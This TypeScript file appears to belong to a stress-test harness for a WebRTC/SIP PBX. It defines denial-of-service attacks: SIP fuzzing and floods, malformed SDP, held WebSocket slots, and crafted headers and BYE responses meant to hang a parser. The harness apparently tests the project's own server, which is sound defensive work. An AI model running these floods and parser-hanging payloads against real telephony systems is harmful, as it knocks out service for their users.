// Attacks by a page with a valid token: malformed SIP, floods, calls without an end, answers that hang a
// parser.

import type { WebSocket } from 'ws';
import { pace } from '../../bench/attack/pace.ts';
import { broken, invite } from '../../bench/attack/signalling-attacks.ts';
import { WebRtcLeg } from '../../bench/webrtc-leg.ts';
import { PROTOS_COUNT, protosMessage } from '../../fuzz/protos.ts';
import type { AttackContext, SiegeAttack } from '../siege-attack.ts';
import { hangingContentType, hangingReason } from './hostile-text.ts';
import { message } from './message.ts';
import { enter, Pages } from './pages.ts';
import { mutatedSdp } from './sdp.ts';
import { SEED, torture } from './signalling.ts';

const OWN = 'attacker.invalid';

/** One frame after another over a few pages, at or above the rate limit of a page. */
function byPages(places: number, next: (index: number, uri: string) => Buffer): SiegeAttack {
  return async scene => {
    const pages = new Pages(scene, 'flooded', places);
    await pace(scene.perSecond, scene.ms, index => {
      const page = pages.take();
      if (page === undefined || page.bufferedAmount > 1 << 20) return;
      page.send(next(index, pages.uri));
      scene.tally.sent++;
    });
    pages.end();
  };
}

let protosIndex = 0;
export const protosWs = byPages(4, (_index, uri) => {
  const index = protosIndex++;
  return protosMessage(index % PROTOS_COUNT, SEED, {
    uri,
    transport: 'WS',
    sentBy: OWN,
    run: `WS${Math.floor(index / PROTOS_COUNT)}-`,
  });
});
export const tortureWs = byPages(2, index => torture[index % torture.length]!);
const mutated = broken();
export const mutatedWs = byPages(4, () => mutated());
/** Above the rate limit of a page. */
export const floodWs = byPages(4, (_index, uri) => invite(uri, 'WS', OWN));
export const multipartWs = byPages(2, (index, uri) =>
  message(['OPTIONS', 'INVITE', 'INFO', 'MESSAGE'][index % 4]!, uri, 'WS', OWN, {
    headers: [`Content-Type: ${hangingContentType(30_000)}`],
    body: 'a\r\n\r\nb',
  }),
);

/** Malformed offers, each from a new page, because a token is valid for one call. */
export const sdpWs: SiegeAttack = async scene => {
  const leg = await WebRtcLeg.open();
  const offer = leg.offer();
  const sdp = mutatedSdp(offer, SEED);
  const pages = new Pages(scene, 'flooded', 4);
  await pace(scene.perSecond, scene.ms, () => {
    const page = pages.take();
    if (page === undefined) return;
    const body = sdp();
    page.send(message('INVITE', pages.uri, 'WS', OWN, { headers: ['Content-Type: application/sdp'], body }));
    scene.tally.sent++;
    setTimeout(() => pages.close(page), 500);
  });
  pages.end();
  leg.close();
};

/** WebSockets with a token and without data: each uses a visitor's place. */
export const heldPlaces: SiegeAttack = async scene => {
  const held = new Set<WebSocket>();
  await pace(scene.perSecond, scene.ms, () => {
    enter(scene, `sip:flooded@${scene.targets.domain}`).then(
      page => {
        scene.tally.sent++;
        held.add(page);
        page.on('close', () => held.delete(page));
      },
      () => {},
    );
  });
  for (const page of held) page.terminate();
};

/**
 * Calls that the PBX ends soon: each BYE is answered with a status line that takes a cubic expression very
 * long.
 */
export const byeAnswers: SiegeAttack = async scene => {
  const leg = await WebRtcLeg.open();
  const offer = leg.offer();
  const uri = `sip:bye@${scene.targets.domain}`;
  await pace(scene.perSecond, scene.ms, index => {
    enter(scene, uri).then(
      page => answerBye(scene, page, uri, offer, index % 2 ? 15_000 : 1_500),
      () => {},
    );
  });
  leg.close();
};

function answerBye(scene: AttackContext, page: WebSocket, uri: string, offer: string, blanks: number): void {
  page.on('message', data => {
    const text = String(data);
    scene.tally.answeredSip(text);
    if (/^SIP\/2\.0 200 .*?^CSeq: 1 INVITE/ms.test(text)) page.send(acknowledgement(text));
    if (!text.startsWith('BYE ')) return;
    const head = text.slice(0, text.indexOf('\r\n\r\n')).split('\r\n');
    const copied = head.filter(line => /^(via|from|to|call-id|cseq):/i.test(line));
    page.send([`SIP/2.0 ${hangingReason(blanks)}`, ...copied, 'Content-Length: 0', '', ''].join('\r\n'));
    scene.tally.sent++;
    setTimeout(() => page.terminate(), 1_000);
  });
  page.send(message('INVITE', uri, 'WS', OWN, { headers: ['Content-Type: application/sdp'], body: offer }));
  setTimeout(() => page.terminate(), 10_000);
}

function acknowledgement(answer: string): string {
  const field = (name: string) => new RegExp(`^${name}: *(.*)$`, 'im').exec(answer)?.[1]?.trim() ?? '';
  return [
    `ACK ${/<([^>]*)>/.exec(field('Contact'))?.[1]} SIP/2.0`,
    `Via: SIP/2.0/WS ${OWN};branch=z9hG4bKack${field('Call-ID')}`,
    'Max-Forwards: 70',
    `From: ${field('From')}`,
    `To: ${field('To')}`,
    `Call-ID: ${field('Call-ID')}`,
    'CSeq: 1 ACK',
    'Content-Length: 0',
    '',
    '',
  ].join('\r\n');
}
